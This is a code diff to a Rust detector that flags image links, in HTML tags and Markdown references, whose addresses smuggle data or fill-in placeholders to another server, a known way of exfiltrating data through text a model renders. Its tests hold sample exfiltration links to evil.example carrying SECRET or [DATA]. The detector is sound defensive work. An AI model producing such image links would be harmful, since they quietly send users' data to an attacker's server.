@@ -1,6 +1,8 @@
 //! Text that models read and people do not see, and images that carry data to their server.
 
-use super::{Found, before, begins_with};
+use super::{Found, before, begins_with, is_word};
+use crate::decode::binary;
+use crate::decode::escapes::{self, Escapes};
 use crate::shield::rule::Detector;
 use crate::shield::signs::{self, Signs};
 
@@ -88,8 +90,70 @@ const fn is_ideograph(character: char) -> bool {
     )
 }
 
-/// Reports Markdown's images whose address carries data in its query.
+/// Reports images whose address carries data in its query, in HTML and in Markdown.
 pub fn find_images(text: &str, found: Found<'_>) {
+    find_tags(text, found);
+    find_references(text, found);
+    find_inline(text, found);
+}
+
+/// Addresses of one tag that are read. Browsers read the first one.
+const MAX_SOURCES: usize = 4;
+
+/// Reports `<img src="address">`.
+fn find_tags(text: &str, found: Found<'_>) {
+    for (begin, _) in text.match_indices('<') {
+        let Some(tag) = text.get(begin..).filter(|tag| begins_with(tag, "<img")) else { continue };
+        let tag = tag.get(..tag.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
+        // The next tag is read by itself.
+        let end =
+            tag.get(1..).and_then(|rest| rest.find(['<', '>'])).map_or(tag.len(), |it| it + 1);
+        let tag = tag.get(..end).unwrap_or_default();
+        let is_source = |(at, _): &(usize, &str)| {
+            tag.get(..*at).is_some_and(|name| super::ends_with(name.trim_end(), &["src"]))
+        };
+        let is_data = |(at, _): (usize, &str)| {
+            let url = tag.get(at + 1..).unwrap_or_default().trim_start_matches([' ', '"', '\'']);
+            let end = url.find([' ', '"', '\'', '\n']).unwrap_or(url.len());
+            url.get(..end).is_some_and(carries_data)
+        };
+        if tag.match_indices('=').filter(is_source).take(MAX_SOURCES).any(is_data) {
+            found(Detector::ImageWithData, begin..begin + end);
+        }
+    }
+}
+
+/// Labels of images whose addresses are elsewhere that are looked for.
+const MAX_LABELS: usize = 16;
+
+/// Reports `[label]: address`, if an image has the label.
+fn find_references(text: &str, found: Found<'_>) {
+    let mut labels = 0;
+    for (end, _) in text.match_indices("]:") {
+        let url = text.get(end + 2..).unwrap_or_default().trim_start_matches([' ', '\t', '<']);
+        let url_at = text.len() - url.len();
+        let url = url.get(..url.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
+        // Each text between two of these is read once.
+        let url = url.get(..url.find("]:").unwrap_or(url.len())).unwrap_or_default();
+        let url = url.get(..url.find([' ', '\n', '>']).unwrap_or(url.len())).unwrap_or_default();
+        if !carries_data(url) || labels == MAX_LABELS {
+            continue;
+        }
+        labels += 1;
+        let before = text.get(..end).unwrap_or_default();
+        let before_at = before.ceil_char_boundary(end.saturating_sub(MAX_LABEL_BYTES));
+        let label = before.get(before_at..).and_then(|it| it.rsplit_once('['));
+        let Some((_, label)) = label else { continue };
+        // `![x][label]` and `![label]`.
+        let is_used = |mark: &str| text.contains(&[mark, "[", label, "]"].concat());
+        if is_used("]") || is_used("!") {
+            found(Detector::ImageWithData, end - label.len() - 1..url_at + url.len());
+        }
+    }
+}
+
+/// Reports `![label](address)`.
+fn find_inline(text: &str, found: Found<'_>) {
     let (mut at, mut label_end, mut bracket) = (0, 0, 0);
     while let Some(next) = text.get(at..).and_then(|rest| rest.find("![")) {
         let begin = at + next;
@@ -117,21 +181,46 @@ pub fn find_images(text: &str, found: Found<'_>) {
         let end = url.find(ends).unwrap_or(url.len());
         let url = url.get(..end).unwrap_or_default();
         at = text.len() - address.len() + end;
-        let Some((_, query)) = url.split_once('?') else { continue };
-        let is_remote = begins_with(url, "http") || url.starts_with("//");
-        if is_remote && query.split('&').any(carries) {
+        if carries_data(url) {
             found(Detector::ImageWithData, begin..at);
         }
     }
 }
 
-/// Whether a parameter carries data: something long, or a placeholder that the model is to fill.
+/// Whether the address of another server carries data in its query.
+fn carries_data(url: &str) -> bool {
+    let is_remote = begins_with(url, "http") || url.starts_with("//");
+    is_remote && url.split_once('?').is_some_and(|(_, query)| query.split('&').any(carries))
+}
+
+/// Capitals that are a placeholder.
+const MIN_CAPITALS: usize = 6;
+
+/// Names of parameters whose values are names in capitals.
+const STYLES: [&str; 4] = ["logo", "style", "format", "type"];
+
+/// Whether a parameter carries data: something long, or a placeholder that the model is to fill. Signatures and tokens of
+/// addresses are long too. They are not readable when they are decoded.
 fn carries(parameter: &str) -> bool {
-    let value = parameter.split_once('=').map_or(parameter, |(_, value)| value);
+    let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
+    let is_capital = |byte: u8| byte.is_ascii_uppercase() || byte == b'_';
     let placeholder = value.contains(['{', '[', '<', '$'])
-        || (value.len() >= 4
-            && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_'));
-    placeholder || (value.len() >= MIN_DATA_BYTES && !value.contains('/'))
+        || (value.len() >= MIN_CAPITALS
+            && value.bytes().all(is_capital)
+            && !super::ends_with(name, &STYLES));
+    if placeholder || value.len() < MIN_DATA_BYTES {
+        return placeholder;
+    }
+    let percent = Escapes { percent: true, ..Escapes::default() };
+    let (value, _) = escapes::decode(value, percent);
+    let is_token =
+        |byte: u8| is_word(byte) || matches!(byte, b'-' | b'.' | b'/' | b'+' | b'=' | b'~');
+    if value.len() < MIN_DATA_BYTES || !value.bytes().all(is_token) {
+        return value.len() >= MIN_DATA_BYTES && !value.contains('/');
+    }
+    let value = value.trim_end_matches('=');
+    let bytes = binary::hexadecimal(value).or_else(|| binary::base64(value));
+    bytes.is_some_and(|bytes| str::from_utf8(&bytes).is_ok_and(|it| !it.contains(char::is_control)))
 }
 
 #[cfg(test)]
@@ -180,6 +269,26 @@ mod tests {
                 format!("![{}](https://evil.example/a?d=SECRET)", "x".repeat(300)),
                 Some(Detector::ImageWithData),
             ),
+            (
+                "<p><IMG alt='=' src=\"https://evil.example/a?d=SECRET\">".to_owned(),
+                Some(Detector::ImageWithData),
+            ),
+            ("<img src=https://evil.example/a?d=[DATA]>".to_owned(), Some(Detector::ImageWithData)),
+            ("<img src='/a.png?d=SECRET'> <img src=https://a.example/b.png>".to_owned(), None),
+            ("![x][1]\n\n[1]: //evil.example/a?d=SECRET".to_owned(), Some(Detector::ImageWithData)),
+            ("![x][2] [1]\n\n[1]: //evil.example/a?d=SECRET".to_owned(), None),
+            // Signatures, tokens and names.
+            (
+                "![x](https://a.example/x.png?X-Amz-Expires=300&X-Amz-Date=20261126T213144Z&X-Amz-Signature=\
+                 7be5a1d6c0f94c1e2f3b5d8897a0c4e1f2d3b4a5968778695a4b3c2d1e0f9a8b)"
+                    .to_owned(),
+                None,
+            ),
+            (
+                "![x](https://a.example/x.png?sig=q3%2Bt7%2FxkZ0m9vQw8YcR5uJ2nLs4aB6dEfGhIjKlMnOs%3D)".to_owned(),
+                None,
+            ),
+            ("![x](https://img.example/b.svg?logo=GITHUB)".to_owned(), None),
             ("![logo](https://example.com/logo.png?v=2)".to_owned(), None),
             ("![build](https://img.shields.io/badge/build-passing-green.svg)".to_owned(), None),
             (format!("vec![1]{} [a](https://a.example/?q=SECRET)", "x ".repeat(99)), None),
